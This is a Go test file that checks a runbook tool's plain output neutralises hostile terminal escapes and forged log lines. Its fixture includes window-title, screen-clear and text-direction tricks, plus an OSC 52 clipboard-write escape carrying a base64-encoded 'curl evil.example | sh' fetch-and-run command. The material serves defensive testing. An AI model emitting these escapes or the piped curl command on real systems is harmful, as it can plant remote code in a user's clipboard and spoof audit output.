package plain

import (
	"bytes"
	"context"
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"runway/runbook/audit"
	"runway/runbook/event"
	"runway/ui/inert"
)

// hostileRunbook carries terminal escapes and forged lines in its title, in
// a command's output and in a database value, the way a hostile runbook
// author, command or customer name could.
const hostileRunbook = `
version: 1
name: t
title: "Hostile\n12:00:00 p/name  passed\e]0;pwned\a"
connections:
  db: {driver: sqlite, dsn: "file:hostile.db"}
phases:
  - id: p
    title: P
    risk: low
    expected: 1h
    items:
      - {id: mk, title: Make the database, sql: {conn: db, exec: "CREATE TABLE IF NOT EXISTS t (a)"}}
      - id: out
        title: "Output\e[2J"
        command: {run: "printf '\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a\\033]0;pwned\\a\\033[2J'; exit 3"}
      - id: name
        title: Customer name
        critical: true
        sql: {conn: db, query: "SELECT 'Bob' || char(27) || 'E' || '12:00:00 p/name  passed' || char(13) || char(10) || '12:00:01 p/other  passed' || char(27) || ']0;pwned' || char(7) || char(155) || '2J' || char(8238)", expect: "Bob"}
`

// forged is a line that reads like an event line runway did not print.
var forged = regexp.MustCompile(`^12:00:0[01] `)

func TestPlainOutputIsInert(t *testing.T) {
	sess, log, _ := start(t, hostileRunbook)
	var out bytes.Buffer
	code := Run(context.Background(), sess, strings.NewReader(""), &out, "")
	if code != ExitStopped {
		t.Fatalf("exit %d, want 1 (the critical sql check fails); output:\n%s", code, out.String())
	}
	text := out.String()
	if !strings.Contains(text, `\x1b]0;pwned\x07`) {
		t.Errorf("the hostile value is not shown escaped:\n%s", text)
	}
	for _, line := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
		if msg := inert.Problem(line, false); msg != "" {
			t.Errorf("%s in line %q", msg, line)
		}
		if forged.MatchString(line) {
			t.Errorf("forged line %q", line)
		}
	}
	// What is shown is inert; what is stored is exact.
	events, err := log.Events(context.Background(), sess.ID(), 0)
	if err != nil {
		t.Fatal(err)
	}
	stored := map[string]bool{}
	for _, e := range events {
		p := event.Decode[event.ResultPayload](e.Payload)
		stored[e.Item] = stored[e.Item] || strings.Contains(p.Output, "\x1b]0;pwned\a")
	}
	if !stored["out"] || !stored["name"] {
		t.Errorf("the audit log does not keep the raw output and value: %v", stored)
	}
}

// FuzzPlainLine formats events that carry any text: each is one inert line.
func FuzzPlainLine(f *testing.F) {
	f.Add("\x1b]0;pwned\a\n12:00:00 p/name  passed\x1bE\u202e\x9b")
	f.Fuzz(func(t *testing.T, s string) {
		for _, e := range []audit.Event{
			{Kind: event.KindItemFailed, Phase: "p", Item: s, Payload: mustJSON(event.ResultPayload{Summary: s, Output: s})},
			{Kind: event.KindNote, Actor: s, Payload: mustJSON(event.NotePayload{Text: s})},
			{Kind: event.KindStopTriggered, Phase: s, Payload: mustJSON(event.StopPayload{Reason: s, Choices: []string{s}})},
		} {
			line, ok := Line(e)
			if !ok {
				continue
			}
			if msg := inert.Problem(line, false); msg != "" {
				t.Fatalf("%s in %q", msg, line)
			}
		}
	})
}

func mustJSON(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}
